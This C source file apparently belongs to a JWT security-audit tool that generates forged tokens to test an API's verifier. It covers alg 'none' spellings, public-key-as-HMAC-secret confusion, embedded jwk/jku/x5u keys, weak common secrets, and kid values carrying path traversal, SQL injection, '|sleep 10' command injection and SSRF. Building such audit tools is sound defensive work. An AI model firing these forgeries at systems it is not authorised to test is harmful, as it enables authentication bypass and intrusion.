/* Attacks that need no good token: nothing, junk, none, confusion of keys, keys that the token
 * brings itself, names that mean something elsewhere. */
#include <errno.h>
#include <stdlib.h>

#include "auth/base64url.h"
#include "auth/token.h"
#include "base/base64.h"
#include "cli/audit_attacks.h"

/* ---- for both kinds of attacks ---- */

struct attack *audit_add(struct audit_plan *plan, struct str name, struct str token)
{
    struct str value = arena_printf(plan->arena, "Bearer %.*s", STR_ARG(token));
    if (plan->count == AUDIT_ATTACKS || name.ptr == NULL || token.ptr == NULL ||
        value.ptr == NULL) {
        plan->failed = true;
        return NULL;
    }
    struct attack *attack = &plan->attacks[plan->count++];
    *attack = (struct attack){.name = name, .headers = {value}, .header_count = 1};
    return attack;
}

struct str audit_encode(struct audit_plan *plan, struct str bytes)
{
    struct buf out = BUF_INIT;
    base64url_encode(bytes.ptr, bytes.len, &out);
    struct str text =
        buf_failed(&out) ? (struct str){NULL, 0} : arena_copy(plan->arena, buf_str(&out));
    buf_free(&out);
    return text;
}

struct str audit_compact(struct audit_plan *plan, struct str header, struct str payload,
                         struct str signature)
{
    struct str h = audit_encode(plan, header), p = audit_encode(plan, payload);
    if (h.ptr == NULL || p.ptr == NULL)
        return (struct str){NULL, 0};
    return arena_printf(plan->arena, "%.*s.%.*s.%.*s", STR_ARG(h), STR_ARG(p), STR_ARG(signature));
}

/* ---- signing ---- */

/* `extra`, header members as JSON, is for the header beside alg, typ and kid. */
static struct str sign(struct audit_plan *plan, struct key *key, enum alg alg, const char *extra)
{
    struct buf out = BUF_INIT;
    struct err err;
    json_t *header = json_loads(extra, 0, NULL);
    struct str token = {NULL, 0};
    if (header != NULL && key_sign(key, alg, header, plan->claims, &out, &err) == 0)
        token = arena_copy(plan->arena, buf_str(&out));
    json_decref(header);
    buf_free(&out);
    return token;
}

static struct str with_kid(struct audit_plan *plan, const char *more)
{
    struct buf out = BUF_INIT;
    buf_printf(&out, "{\"kid\":");
    buf_add_json(&out, plan->kid);
    buf_printf(&out, "%s}", more);
    struct str text = buf_failed(&out) ? STR("{}") : arena_copy(plan->arena, buf_str(&out));
    buf_free(&out);
    return text.ptr != NULL ? text : STR("{}");
}

/* A forged token whose header is this text, signed by nobody: the third part is a signature of the
 * right length over something else. */
static struct str unsigned_token(struct audit_plan *plan, struct str header)
{
    struct str token = sign(plan, plan->forger, ALG_RS256, "{}");
    size_t dot = 0;
    for (size_t i = 0; i < token.len; i++)
        dot = token.ptr[i] == '.' ? i : dot;
    return token.ptr != NULL ? audit_compact(plan, header, plan->claims, str_skip(token, dot + 1))
                             : token;
}

/* ---- form ---- */

static void add_header(struct audit_plan *plan, struct str name, struct str value)
{
    struct attack *attack = audit_add(plan, name, STR(""));
    if (attack != NULL)
        attack->headers[0] = value;
}

static struct str repeat(struct audit_plan *plan, char c, size_t count)
{
    char *text = arena_alloc(plan->arena, count + 1);
    if (text != NULL)
        memset(text, c, count);
    return (struct str){text, text != NULL ? count : 0};
}

static void forge_forms(struct audit_plan *plan)
{
    struct attack *attack = audit_add(plan, STR("no token"), STR("x"));
    if (attack != NULL)
        attack->header_count = 0;
    add_header(plan, STR("scheme alone"), STR("Bearer"));
    add_header(plan, STR("Basic"), STR("Basic YWRtaW46YWRtaW4="));
    audit_add(plan, STR("junk"), STR("junk"));
    audit_add(plan, STR("empty segments"), STR(".."));
    audit_add(plan, STR("two parts"), STR("eyJhbGciOiJub25lIn0.e30"));
    audit_add(plan, STR("no header"), STR(".e30.AAAA"));
    audit_add(plan, STR("no payload"), STR("eyJhbGciOiJub25lIn0..AAAA"));
    audit_add(
        plan, STR("five parts (JWE)"),
        STR("eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"));
    struct str header = audit_encode(plan, STR("{\"alg\":\"none\"}"));
    struct str payload = audit_encode(plan, plan->claims);
    audit_add(plan, STR("JSON serialisation"),
              arena_printf(plan->arena,
                           "{\"protected\":\"%.*s\",\"payload\":\"%.*s\",\"signature\":\"\"}",
                           STR_ARG(header), STR_ARG(payload)));
    static const struct {
        const char *name;
        char c;
        size_t count;
    } large[] = {
        {"10,000 dots", '.', 10000}, {"20,000 letters", 'A', 20000}, {"64 KB", 'A', 65536}};
    for (size_t i = 0; i < sizeof(large) / sizeof(large[0]); i++) {
        attack = audit_add(plan, str_from(large[i].name), repeat(plan, large[i].c, large[i].count));
        if (attack != NULL)
            attack->oversize = true;
    }
}

/* ---- algorithms that are none ---- */

static void forge_none(struct audit_plan *plan)
{
    static const char *const spellings[] = {"none", "None", "NONE", "nOnE", "none ", ""};
    for (size_t i = 0; i < sizeof(spellings) / sizeof(spellings[0]); i++) {
        struct str header =
            arena_printf(plan->arena, "{\"alg\":\"%s\",\"typ\":\"JWT\"}", spellings[i]);
        audit_add(plan, arena_printf(plan->arena, "alg \"%s\", no signature", spellings[i]),
                  audit_compact(plan, header, plan->claims, STR("")));
        audit_add(plan, arena_printf(plan->arena, "alg \"%s\", some signature", spellings[i]),
                  audit_compact(plan, header, plan->claims, STR("c2lnbmF0dXJl")));
    }
    static const char *const values[] = {"\"rs256\"", "\"RS256 \"", "[\"RS256\"]", "256",
                                         "null",      "{}",         "\"HS1\""};
    for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++)
        audit_add(plan, arena_printf(plan->arena, "alg %s", values[i]),
                  unsigned_token(plan, arena_printf(plan->arena, "{\"alg\":%s}", values[i])));
    audit_add(plan, STR("alg missing"), unsigned_token(plan, STR("{\"typ\":\"JWT\"}")));
    audit_add(
        plan, STR("alg twice, none last"),
        audit_compact(plan, STR("{\"alg\":\"RS256\",\"alg\":\"none\"}"), plan->claims, STR("")));
    audit_add(
        plan, STR("alg twice, none first"),
        audit_compact(plan, STR("{\"alg\":\"none\",\"alg\":\"RS256\"}"), plan->claims, STR("")));
}

/* ---- a key of our own ---- */

static void forge_own_key(struct audit_plan *plan)
{
    static const enum alg algs[] = {ALG_RS256, ALG_RS384, ALG_RS512, ALG_PS256};
    for (size_t i = 0; i < sizeof(algs) / sizeof(algs[0]); i++)
        audit_add(plan, arena_printf(plan->arena, "another key, %s", alg_name(algs[i])),
                  sign(plan, plan->forger, algs[i], with_kid(plan, "").ptr));
    static const enum alg others[] = {ALG_ES256, ALG_EDDSA};
    for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
        struct key *key = NULL;
        struct err err;
        if (key_generate(others[i], &key, &err) == 0)
            audit_add(plan, arena_printf(plan->arena, "another key, %s", alg_name(others[i])),
                      sign(plan, key, others[i], with_kid(plan, "").ptr));
        key_unref(key);
    }
    audit_add(plan, STR("another key, no kid"), sign(plan, plan->forger, ALG_RS256, "{}"));
    audit_add(plan, STR("no signature"),
              audit_compact(
                  plan,
                  arena_printf(plan->arena, "{\"alg\":\"RS256\",%s", with_kid(plan, "").ptr + 1),
                  plan->claims, STR("")));
}

/* What is wrong with the times must not hide what is wrong with the key. */
static void forge_times(struct audit_plan *plan)
{
    static const char *const members[] = {"\"exp\":1", "\"exp\":1e300", "\"exp\":\"never\"",
                                          "\"exp\":9999999999", "\"nbf\":1e300"};
    struct str claims = plan->claims;
    for (size_t i = 0; i < sizeof(members) / sizeof(members[0]); i++) {
        plan->claims = arena_printf(plan->arena, "{\"iss\":\"x\",%s}", members[i]);
        if (plan->claims.ptr != NULL)
            audit_add(plan, arena_printf(plan->arena, "another key, %s", members[i]),
                      sign(plan, plan->forger, ALG_RS256, "{}"));
    }
    plan->claims = claims;
}

/* Headers that ask for the key to be taken from the token, or for other rules. */
static void forge_headers(struct audit_plan *plan)
{
    json_t *jwk = key_to_jwk(plan->forger, ALG_RS256);
    char *text = jwk != NULL ? json_dumps(jwk, JSON_COMPACT) : NULL;
    struct str own = arena_printf(plan->arena, ",\"jwk\":%s", text != NULL ? text : "{}");
    free(text);
    json_decref(jwk);
    const struct {
        const char *name, *more;
    } rows[] = {
        {"its own jwk", own.ptr != NULL ? own.ptr : ""},
        {"its own jku", ",\"jku\":\"http://127.0.0.1:9/jwks.json\""},
        {"its own x5u", ",\"x5u\":\"http://127.0.0.1:9/cert.pem\""},
        {"its own x5c", ",\"x5c\":[\"MIIB\"]"},
        {"crit empty", ",\"crit\":[]"},
        {"crit exp", ",\"crit\":[\"exp\"],\"exp\":1"},
        {"crit unknown", ",\"crit\":[\"x\"],\"x\":1"},
        {"b64 false", ",\"b64\":false,\"crit\":[\"b64\"]"},
        {"cty JWT", ",\"cty\":\"JWT\""},
        {"zip", ",\"zip\":\"DEF\""},
        {"enc", ",\"enc\":\"A128GCM\""},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
        audit_add(plan, str_from(rows[i].name),
                  sign(plan, plan->forger, ALG_RS256, with_kid(plan, rows[i].more).ptr));
}

static void forge_kids(struct audit_plan *plan)
{
    static const char *const kids[] = {"\"\"",
                                       "5",
                                       "null",
                                       "[]",
                                       "{}",
                                       "true",
                                       "\"../../../../dev/null\"",
                                       "\"/dev/null\"",
                                       "\"' UNION SELECT 'secret\"",
                                       "\"'--\"",
                                       "\"\\u0000\"",
                                       "\"|sleep 10\"",
                                       "\"http://127.0.0.1:9/key\"",
                                       "\"__proto__\""};
    for (size_t i = 0; i < sizeof(kids) / sizeof(kids[0]); i++) {
        struct str header = arena_printf(plan->arena, "{\"alg\":\"RS256\",\"kid\":%s}", kids[i]);
        audit_add(plan, arena_printf(plan->arena, "kid %s", kids[i]),
                  header.ptr != NULL ? unsigned_token(plan, header) : header);
    }
    struct str kid = repeat(plan, 'k', 4000);
    audit_add(plan, STR("kid of 4,000 letters"),
              unsigned_token(plan, arena_printf(plan->arena, "{\"alg\":\"RS256\",\"kid\":\"%.*s\"}",
                                                STR_ARG(kid))));
}

/* ---- secrets that everybody knows ---- */

/* HMAC fills a key up with zeros to the size of a block, so that these are the short keys. */
static struct key *short_secret(struct str secret)
{
    char block[64] = {0};
    struct key *key = NULL;
    memcpy(block, secret.ptr, secret.len < sizeof(block) ? secret.len : sizeof(block));
    return key_from_secret((struct str){block, sizeof(block)}, &key, NULL) == 0 ? key : NULL;
}

static void forge_with_secret(struct audit_plan *plan, struct key *key, const char *name)
{
    static const enum alg algs[] = {ALG_HS256, ALG_HS384, ALG_HS512};
    for (size_t i = 0; key != NULL && i < sizeof(algs) / sizeof(algs[0]); i++) {
        if (key_fits(key, algs[i]))
            audit_add(plan, arena_printf(plan->arena, "%s, %s", alg_name(algs[i]), name),
                      sign(plan, key, algs[i], with_kid(plan, "").ptr));
    }
    plan->failed = plan->failed || key == NULL;
    key_unref(key);
}

static void forge_secrets(struct audit_plan *plan)
{
    static const char *const secrets[] = {
        "", "secret", "password", "changeme", "jwt", "your-256-bit-secret", "null", "undefined"};
    for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++) {
        struct str name = arena_printf(plan->arena, "key \"%s\"", secrets[i]);
        if (name.ptr != NULL)
            forge_with_secret(plan, short_secret(str_from(secrets[i])), name.ptr);
    }
}

/* ---- the public key as a secret ---- */

static void forge_with_text(struct audit_plan *plan, struct str secret, const char *name)
{
    struct key *key = NULL;
    if (secret.len >= 32 && key_from_secret(secret, &key, NULL) == 0)
        forge_with_secret(plan, key, name);
}

/* The Base64 between the lines of a PEM, decoded. */
static struct str der_of(struct audit_plan *plan, struct str pem)
{
    char *text = arena_alloc(plan->arena, pem.len + 1);
    char *der = arena_alloc(plan->arena, pem.len + 4);
    struct str rest = pem, line;
    size_t len = 0;
    while (text != NULL && str_split_next(&rest, '\n', &line)) {
        if (line.len > 0 && line.ptr[0] != '-') {
            memcpy(text + len, line.ptr, line.len);
            len += line.len;
        }
    }
    ptrdiff_t size = text != NULL && der != NULL
                         ? base64_decode((struct str){text, len}, BASE64_STANDARD, der, NULL)
                         : -EINVAL;
    return size > 0 ? (struct str){der, (size_t)size} : STR("");
}

static void forge_with_modulus(struct audit_plan *plan, const json_t *jwk)
{
    const json_t *n = json_object_get(jwk, "n");
    struct str text = {json_string_value(n), json_string_length(n)};
    char bytes[BASE64URL_DECODED_MAX(LIMIT_TOKEN_BYTES)];
    size_t len;
    forge_with_text(plan, text, "key: n of the JWK");
    if (text.len > 0 && text.len < LIMIT_TOKEN_BYTES && base64url_decode(text, bytes, &len) == 0)
        forge_with_text(plan, (struct str){bytes, len}, "key: bytes of n");
}

static void forge_with_public(struct audit_plan *plan, const struct key *key)
{
    enum { RSA_SPKI_HEADER = 24 }; /* before the PKCS#1 key, for 2048 bits and more */
    struct buf pem = BUF_INIT;
    if (key_to_public_pem(key, &pem) != 0)
        return;
    struct str text = arena_copy(plan->arena, buf_str(&pem));
    buf_free(&pem);
    struct str der = text.ptr != NULL ? der_of(plan, text) : STR("");
    forge_with_text(plan, text, "key: PEM");
    forge_with_text(plan, (struct str){text.ptr, text.len - 1}, "key: PEM without newline");
    forge_with_text(plan, arena_printf(plan->arena, " %.*s", STR_ARG(text)), "key: space and PEM");
    forge_with_text(plan, der, "key: DER");
    for (unsigned alg = ALG_RS256; alg < ALG_COUNT; alg++) {
        json_t *jwk = key_fits(key, (enum alg)alg) ? key_to_jwk(key, (enum alg)alg) : NULL;
        if (jwk == NULL)
            continue;
        char *json = json_dumps(jwk, JSON_COMPACT);
        forge_with_text(plan, str_from(json), "key: JWK");
        free(json);
        if (json_object_get(jwk, "n") != NULL && der.len > RSA_SPKI_HEADER)
            forge_with_text(plan, str_skip(der, RSA_SPKI_HEADER), "key: PKCS#1");
        forge_with_modulus(plan, jwk);
        json_decref(jwk);
        return;
    }
}

/* ---- the whole ---- */

static void choose_claims(struct audit_plan *plan)
{
    struct token good;
    struct str first = plan->keys != NULL ? key_kid(keyset_at(plan->keys, 0)) : STR("");
    plan->kid = first.len > 0 ? first : STR("k1");
    if (plan->token.len > 0 && token_parse(plan->token, &good) == 0) {
        const json_t *kid = json_object_get(good.header, "kid");
        char *text = json_dumps(good.claims, JSON_COMPACT);
        plan->claims = arena_copy(plan->arena, str_from(text));
        free(text);
        if (json_is_string(kid))
            plan->kid = arena_copy(plan->arena, str_from(json_string_value(kid)));
        token_clear(&good);
        return;
    }
    struct buf out = BUF_INIT;
    buf_printf(&out, "{\"iss\":");
    buf_add_json(&out, plan->issuer);
    buf_printf(&out, ",\"aud\":");
    buf_add_json(&out, plan->audience);
    buf_printf(&out, ",\"sub\":\"auth0|audit\",\"azp\":\"audit\",\"iat\":%.0f,\"exp\":%.0f}",
               plan->now - 60, plan->now + 3600);
    plan->claims = arena_copy(plan->arena, buf_str(&out));
    buf_free(&out);
}

void audit_forge(struct audit_plan *plan)
{
    choose_claims(plan);
    if (plan->claims.ptr == NULL || plan->kid.ptr == NULL) {
        plan->failed = true;
        return;
    }
    forge_forms(plan);
    forge_none(plan);
    forge_own_key(plan);
    forge_times(plan);
    forge_headers(plan);
    forge_kids(plan);
    forge_secrets(plan);
    if (plan->keys != NULL)
        forge_with_public(plan, keyset_at(plan->keys, 0));
}
